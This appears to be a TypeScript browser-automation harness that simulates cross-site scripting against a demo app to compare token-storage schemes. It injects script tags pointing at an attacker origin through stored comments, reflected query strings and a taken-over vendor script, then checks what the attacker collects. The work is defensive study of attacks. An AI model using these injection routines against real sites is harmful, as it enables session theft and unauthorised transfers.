/** Scripts of the attacker in the page: by a stored comment, by a link, by a vendor that was taken over. */
import { setTimeout as sleep } from 'node:timers/promises';
import type { Payload } from '../demo/payloads.ts';
import { obtained, type Observation } from '../observation.ts';
import { shownUser, submitSignIn, withContext, type Cell } from '../victim.ts';
import { redeem } from './redeem.ts';

const PATIENCE_MS = 10_000;
/** After the application has done all it does. */
const SETTLE_MS = 150;

export const readsStorage = (cell: Cell): Promise<Observation> => takeAway(cell, 'reads', storedComment);
export const listensToRequests = (cell: Cell): Promise<Observation> => takeAway(cell, 'listens', reflected);
export const asksForToken = (cell: Cell): Promise<Observation> => takeAway(cell, 'asks', storedComment);
export const vendorTakes = (cell: Cell): Promise<Observation> => takeAway(cell, 'takes', takenOverVendor);

/** Puts the script into the application; gives the address that runs it. */
type Delivery = (cell: Cell, payload: Payload) => Promise<string>;

const storedComment: Delivery = async ({ world, storage, id }, payload) => {
  const search = `?board=${id}`;
  await world.outside(`${world.app(storage)}comments${search}`, {
    method: 'POST',
    body: scriptTag({ world, id }, payload),
  });
  return search;
};

const reflected: Delivery = async ({ world, id }, payload) =>
  `?q=${encodeURIComponent(scriptTag({ world, id }, payload))}`;

const takenOverVendor: Delivery = async ({ world, storage, id }, payload) => {
  world.attacker.takeOverVendor(`app.${storage.site}`, { cell: id, payload });
  return '';
};

function scriptTag({ world, id }: Pick<Cell, 'world' | 'id'>, payload: Payload): string {
  return `<script src="${world.attackerOrigin}/script.js?payload=${payload}&cell=${id}"></script>`;
}

async function takeAway(cell: Cell, payload: Payload, deliver: Delivery): Promise<Observation> {
  const { world, storage, id } = cell;
  const search = await deliver(cell, payload);
  try {
    const loot = await withContext(cell, async (context) => {
      const page = await context.newPage();
      await page.goto(world.app(storage) + search);
      await page.locator('#sign-in').waitFor();
      // The application is there when it has asked, or when its question was kept back.
      await until(
        async () => (await page.locator('#who[data-asked]').count()) > 0 || world.attacker.loot(id).length > 0,
      );
      await submitSignIn(page, cell);
      const hasRequest = () => world.attacker.loot(id).some((text) => text.includes('"request"'));
      await until(async () => (await shownUser(page)) === 'alice' || hasRequest());
      if (payload === 'reads') await until(() => world.attacker.loot(id).length > 0);
      // Last of what it does, and what takes longest.
      if (payload === 'asks' || payload === 'takes') {
        await until(() => world.attacker.loot(id).some((text) => text.includes('"asked"')));
      }
      await sleep(SETTLE_MS);
      return world.attacker.loot(id);
    });
    const found = await redeem(cell, loot);
    const statuses = storage.kind === 'latchkey' ? loot.flatMap(statusesOfTokens) : [];
    return statuses.length === 0 || found.obtained !== 'nothing'
      ? found
      : { ...found, evidence: `${found.evidence}; Latchkey answered requests for a token with ${statuses.join(', ')}` };
  } finally {
    world.attacker.takeOverVendor(`app.${storage.site}`, undefined);
  }
}

/** What the script was answered where it asked for a token, of what it sent off. */
function statusesOfTokens(text: string): number[] {
  const { asked = [] } = JSON.parse(text) as { readonly asked?: readonly { path: string; status: number }[] };
  return asked.filter(({ path }) => path === '/api/session/token').map(({ status }) => status);
}

/** The limit of HttpOnly: the script needs no credential, the page has the user. */
export async function usesInPlace(cell: Cell): Promise<Observation> {
  const { world, storage, id } = cell;
  const search = await storedComment(cell, 'uses');
  return withContext(cell, async (context) => {
    const page = await context.newPage();
    await page.goto(world.app(storage) + search);
    await page.locator('#who[data-asked]').waitFor({ state: 'attached' });
    await submitSignIn(page, cell);
    await page.locator('#transferred', { hasText: id }).waitFor();
    const found = world.transfers.find(({ to }) => to === id);
    return found?.user === 'alice'
      ? obtained('use in place', 'the script made a transfer as alice')
      : obtained('nothing', 'the transfer was refused');
  });
}

async function until(condition: () => boolean | Promise<boolean>): Promise<void> {
  const giveUpAt = performance.now() + PATIENCE_MS;
  while (!(await condition())) {
    if (performance.now() > giveUpAt) throw new Error('Waited in vain');
    await sleep(20);
  }
}
